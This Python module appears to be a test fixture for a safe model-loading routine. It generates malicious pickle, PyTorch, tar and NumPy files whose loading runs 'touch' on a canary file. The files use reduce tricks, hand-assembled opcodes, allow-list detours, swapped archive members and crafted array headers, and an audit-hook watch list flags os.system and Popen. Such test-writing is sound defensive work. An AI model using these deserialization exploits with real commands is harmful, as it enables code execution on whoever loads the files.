"""What an attacker would hand over: pickles that make a file when they are loaded, in every wrapping that a loader might open.

The hashes beside the files are right: the attacker made those too.
"""

import bz2
import collections
import contextlib
import copyreg
import functools
import gzip
import io
import marshal
import operator
import os
import pickle
import runpy
import struct
import subprocess
import sys
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import torch

WATCHED = {"os.system", "subprocess.Popen", "os.exec", "os.fork", "os.posix_spawn", "os.spawn", "pickle.find_class"}
"""The interpreter's own word for what only an attack would do here."""
_armed: list[list[str]] = []


def _note(event: str, arguments: tuple[Any, ...]) -> None:
    if _armed and event in WATCHED:
        _armed[-1].append(f"{event} {arguments[:2]}")


sys.addaudithook(_note)  # it cannot be taken away again: it listens only inside `watched`


@contextlib.contextmanager
def watched() -> Iterator[list[str]]:
    """What was executed or unpickled inside the block."""
    seen: list[str] = []
    _armed.append(seen)
    try:
        yield seen
    finally:
        _armed.pop()


# --- payloads: objects whose unpickling makes the file `canary`


class Calls:
    """Unpickled, it is the call of a function."""

    def __init__(self, function: Callable[..., Any], *arguments: Any, **more: Any) -> None:
        self.said = (function, arguments, *more.get("rest", ()))

    def __reduce__(self) -> tuple[Any, ...]:
        return self.said

    def __call__(self) -> None:
        """Pickle wants what it calls to be callable, also where that is made by a call itself."""


class CallsByProtocol(Calls):
    """The same by the newer of the two methods."""

    def __reduce_ex__(self, protocol: Any) -> tuple[Any, ...]:
        return self.said


class ByDispatch:
    """Has no such method: the pickler is told how it is taken apart."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary


copyreg.pickle(ByDispatch, lambda one: (os.system, (f"touch {one.canary}",)))  # type: ignore[arg-type]


def _script(canary: Path) -> Path:
    file = canary.with_name("hubconf.py")
    file.write_text(f"open({str(canary)!r}, 'w').close()\ndef model(): pass\n")
    return file


def _inner(canary: Path) -> Path:
    file = canary.with_name("inner.pt")
    torch.save(Calls(os.system, f"touch {canary}"), file)
    return file


def _inner_array(canary: Path) -> Path:
    file = canary.with_name("inner.npy")
    np.save(file, np.array([Calls(os.system, f"touch {canary}")], object), allow_pickle=True)
    return file


def _function_type() -> Any:
    return Calls(getattr, Calls(__import__, "types"), "FunctionType")


def _code(canary: Path) -> Any:
    return marshal.dumps(compile(f"open({str(canary)!r}, 'w').close()", "x", "exec"))


PAYLOADS: dict[str, Callable[[Path], Any]] = {
    "os.system": lambda canary: Calls(os.system, f"touch {canary}"),
    "os.system by protocol": lambda canary: CallsByProtocol(os.system, f"touch {canary}"),
    "os.system by dispatch": ByDispatch,
    "os.popen": lambda canary: Calls(operator.methodcaller("close"), Calls(os.popen, f"touch {canary}")),
    "builtins.exec": lambda canary: Calls(exec, f"open({str(canary)!r}, 'w').close()"),
    "builtins.eval": lambda canary: Calls(eval, f"__import__('os').system('touch {canary}')"),
    "builtins.open": lambda canary: Calls(open, str(canary), "w"),
    "builtins.map": lambda canary: Calls(list, Calls(map, os.system, [f"touch {canary}"])),
    "builtins.getattr": lambda canary: Calls(Calls(getattr, Calls(__import__, "os"), "system"), f"touch {canary}"),
    "subprocess.check_call": lambda canary: Calls(subprocess.check_call, ["touch", str(canary)]),
    "pathlib.Path.touch": lambda canary: Calls(Path.touch, canary),
    "functools.partial": lambda canary: Calls(functools.partial(os.system, f"touch {canary}")),
    "functools.reduce": lambda canary: Calls(functools.reduce, getattr, ["a"], Calls(os.system, f"touch {canary}")),
    "operator.methodcaller": lambda canary: Calls(operator.methodcaller("touch"), canary),
    "types.FunctionType": lambda canary: Calls(Calls(_function_type(), Calls(marshal.loads, _code(canary)), {})),
    "runpy.run_path": lambda canary: Calls(runpy.run_path, str(_script(canary))),
    "torch.hub.load": lambda canary: Calls(torch.hub._load_local, str(_script(canary).parent), "model"),
    "torch.load": lambda canary: Calls(functools.partial(torch.load, weights_only=False), str(_inner(canary))),
    "numpy.load": lambda canary: Calls(functools.partial(np.load, allow_pickle=True), str(_inner_array(canary))),
    "pickle.loads": lambda canary: Calls(pickle.loads, pickle.dumps(Calls(os.system, f"touch {canary}"))),
    "state": lambda canary: Calls(collections.OrderedDict, rest=(Calls(os.system, f"touch {canary}"),)),
    "state setter": lambda canary: Calls(Exception, rest=(f"touch {canary}", None, None, _set_state)),
    "items of a list": lambda canary: Calls(list, rest=(None, iter([Calls(os.system, f"touch {canary}")]))),
    "items of a dict": lambda canary: Calls(dict, rest=(None, None, iter([("x", Calls(os.system, f"touch {canary}"))]))),
}


def _set_state(_: Any, command: str) -> None:
    os.system(command)


# --- wrappings of a payload: what stands in the place of best.safetensors


def _zip(file: Path, content: object) -> None:
    torch.save(content, file)


def _legacy(file: Path, content: object) -> None:
    torch.save(content, file, _use_new_zipfile_serialization=False)


def _plain(file: Path, content: object) -> None:
    file.write_bytes(pickle.dumps(content))


def _oldest(file: Path, content: object) -> None:
    file.write_bytes(pickle.dumps(content, protocol=0))


def _swapped(file: Path, content: object, twice: bool = False) -> None:
    """An archive of real weights, its pickle exchanged for another, or followed by another of the same name."""
    honest = io.BytesIO()
    torch.save({"weight": torch.zeros(3)}, honest)
    with zipfile.ZipFile(honest) as old, zipfile.ZipFile(file, "w") as new, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile's, of the double name
        for name in old.namelist():
            evil = name.endswith("/data.pkl")
            if not evil or twice:
                new.writestr(name, old.read(name))
            if evil:
                new.writestr(name, pickle.dumps(content, protocol=2))


def _twice(file: Path, content: object) -> None:
    _swapped(file, content, twice=True)


def _tar(file: Path, content: object, where: str = "pickle") -> None:
    """The oldest format of all, with the payload in one of its members."""
    honest = {"storages": pickle.dumps(0) + pickle.dumps([]), "tensors": pickle.dumps(0), "pickle": pickle.dumps({})}
    with tarfile.open(file, "w", format=tarfile.PAX_FORMAT) as archive:
        for name, bytes_ in ({"sys_info": pickle.dumps({})} | honest | {where: pickle.dumps(content)}).items():
            member = tarfile.TarInfo(name)
            member.size = len(bytes_)
            archive.addfile(member, io.BytesIO(bytes_))


def _tar_storages(file: Path, content: object) -> None:
    _tar(file, content, "storages")


def _stream(file: Path, *parts: object) -> None:
    """The format of 2017 to 2020: five pickles, one after another."""
    file.write_bytes(b"".join(pickle.dumps(part, protocol=2) for part in parts))


def _magic(file: Path, content: object) -> None:
    _stream(file, content, 1001, {}, {}, [])


def _system_information(file: Path, content: object) -> None:
    _stream(file, 0x1950A86A20F9469CFC6C, 1001, content, {}, [])


def _storage_keys(file: Path, content: object) -> None:
    _stream(file, 0x1950A86A20F9469CFC6C, 1001, {}, {}, content)


class _Persistent(pickle.Pickler):
    def persistent_id(self, one: Any) -> Any:
        return ("storage", one.said, "0", "cpu", 3) if isinstance(one, _Stored) else None


class _Stored:
    def __init__(self, said: object) -> None:
        self.said = said


def _persistent(file: Path, content: object) -> None:
    """The payload is the type of a tensor's storage."""
    stream = io.BytesIO()
    _Persistent(stream, protocol=2).dump({"weight": _Stored(content)})
    honest = io.BytesIO()
    torch.save({"weight": torch.zeros(3)}, honest)
    with zipfile.ZipFile(honest) as old, zipfile.ZipFile(file, "w") as new:
        for name in old.namelist():
            new.writestr(name, stream.getvalue() if name.endswith("/data.pkl") else old.read(name))


def _script_archive(file: Path, content: object) -> None:
    """An archive that says it is TorchScript, its constants a pickle."""
    with zipfile.ZipFile(file, "w") as new:
        new.writestr("archive/constants.pkl", pickle.dumps(content, protocol=2))
        new.writestr("archive/data.pkl", pickle.dumps(content, protocol=2))
        new.writestr("archive/version", "3")


def _gzipped(file: Path, content: object) -> None:
    file.write_bytes(gzip.compress(pickle.dumps(content)))


def _bzipped(file: Path, content: object) -> None:
    file.write_bytes(bz2.compress(pickle.dumps(content)))


def _npy(file: Path, content: object) -> None:
    with file.open("wb") as stream:
        np.save(stream, np.array([content], object), allow_pickle=True)


def _npz(file: Path, content: object) -> None:
    with file.open("wb") as stream:
        np.savez(stream, arr_0=np.array([content], object), allow_pickle=True)


WRAPPINGS = (_zip, _legacy, _plain, _oldest, _swapped, _twice, _tar, _tar_storages, _magic, _system_information, _storage_keys)
WRAPPINGS += (_persistent, _script_archive, _gzipped, _bzipped, _npy, _npz)


def _with_parameter(payload: object) -> object:
    weight = torch.nn.Parameter(torch.zeros(3))
    weight.note = payload  # type: ignore[attr-defined]
    return {"weight": weight}


def _in_a_network(payload: object) -> object:
    network = torch.nn.Linear(2, 2)
    network.note = payload  # type: ignore[assignment]
    return network


def _ordered(payload: object) -> object:
    weights = collections.OrderedDict(weight=torch.zeros(3))
    weights._metadata = payload  # type: ignore[attr-defined]
    return weights


PLACES: dict[str, Callable[[object], object]] = {
    "among weights": lambda payload: {"weight": torch.zeros(3), "bias": payload},
    "deep among weights": lambda payload: {"weight": torch.zeros(3), "more": [({"x": (payload,)},)]},
    "as a key": lambda payload: {"weight": torch.zeros(3), ("key", payload): torch.zeros(3)},
    "in a parameter": _with_parameter,
    "in a network": _in_a_network,
    "in the metadata of weights": _ordered,
    "for a tensor": lambda payload: Calls(torch._utils._rebuild_tensor_v2, payload, 0, (3,), (1,), False, {}),
}

# --- pickles written by hand, opcode by opcode

OPCODES: dict[str, Callable[[str], bytes]] = {
    "GLOBAL": lambda command: b"cos\nsystem\n(S'%b'\ntR." % command.encode(),
    "INST": lambda command: b"(S'%b'\nios\nsystem\n." % command.encode(),
    "OBJ": lambda command: b"(cos\nsystem\nS'%b'\no." % command.encode(),
    "STACK_GLOBAL by a detour": lambda command: _by_detour("torch.serialization", "os.system", command),
    "STACK_GLOBAL by an allowed name": lambda command: _by_detour("torch._utils", "torch.hub.os.system", command),
    "after an honest pickle": lambda command: b"\x80\x02}q\x000cposix\nsystem\n(X%b%btR." % _sized(command),
}


def _sized(text: str) -> tuple[bytes, bytes]:
    return struct.pack("<I", len(text)), text.encode()


def _by_detour(module: str, name: str, command: str) -> bytes:
    size, text = _sized(command)
    return b"\x80\x04\x8c%c%b\x8c%c%b\x93X%b%b\x85R." % (len(module), module.encode(), len(name), name.encode(), size, text)


Maker = Callable[[Path, Path], None]
"""Writes the file that the first path names; loaded carelessly, it makes the second."""


def _of(wrap: Callable[[Path, object], None], place: Callable[[object], object], payload: Callable[[Path], Any]) -> Maker:
    return lambda file, canary: wrap(file, place(payload(canary)))


def _by_hand(make: Callable[[str], bytes], wrapped: bool) -> Maker:
    def write(file: Path, canary: Path) -> None:
        content = make(f"touch {canary}")
        if not wrapped:
            file.write_bytes(content)
            return
        with zipfile.ZipFile(file, "w") as archive:
            archive.writestr("archive/data.pkl", content)
            archive.writestr("archive/version", "3")

    return write


WEIGHTS: dict[str, Maker] = {
    **{f"{name}, in an archive": _of(_zip, lambda one: {"weight": one}, make) for name, make in PAYLOADS.items()},
    **{f"{wrap.__name__[1:]}": _of(wrap, lambda one: one, PAYLOADS["os.system"]) for wrap in WRAPPINGS},
    **{f"{name}, {wrap.__name__[1:]}": _of(wrap, place, PAYLOADS["os.system"]) for name, place in PLACES.items() for wrap in (_zip, _legacy)},
    **{f"{name}{', in an archive' * zipped}": _by_hand(make, zipped) for name, make in OPCODES.items() for zipped in (False, True)},
}  # fmt: skip
"""Files in the place of weights."""


def _header(text: str) -> bytes:
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode()


def _structured(file: Path, canary: Path) -> None:
    with file.open("wb") as stream:
        array = np.array([(1, PAYLOADS["os.system"](canary))], [("a", "i8"), ("b", "O")])
        np.save(stream, array, allow_pickle=True)


def _raw(content: Callable[[Path], bytes]) -> Maker:
    return lambda file, canary: file.write_bytes(content(canary)) and None  # type: ignore[func-returns-value]


ARRAYS: dict[str, Maker] = {
    **{f"{name}, as objects": _of(_npy, lambda one: one, make) for name, make in list(PAYLOADS.items())[:8]},
    **{wrap.__name__[1:]: _of(wrap, lambda one: one, PAYLOADS["os.system"]) for wrap in (_plain, _oldest, _npz, _zip, _legacy, _gzipped)},
    "an object among numbers": _structured,
    "a call in the header": _raw(
        lambda canary: _header(f"{{'descr': __import__('os').system('touch {canary}'), 'fortran_order': False, 'shape': (1,)}}\n")
    ),
    "a call for a shape": _raw(
        lambda canary: _header(f"{{'descr': '<i8', 'fortran_order': False, 'shape': (__import__('os').system('touch {canary}'),)}}\n")
    ),
}  # fmt: skip
"""Files in the place of an array."""
RUBBISH: dict[str, bytes] = {
    "nothing": b"",
    "a header without end": b"\x93NUMPY\x01\x00\xff\xff",
    "brackets without end": _header("(" * 5000),
    "more numbers than there are": _header("{'descr': '<i8', 'fortran_order': False, 'shape': (99999999999999,)}\n"),
    "fewer than none": _header("{'descr': '<i8', 'fortran_order': False, 'shape': (-9,)}\n"),
    "a version of tomorrow": b"\x93NUMPY\x09\x00\x00\x00",
    "an archive of arrays": b"PK\x03\x04" + bytes(30),
}
"""Files that are no array, and would not run either."""
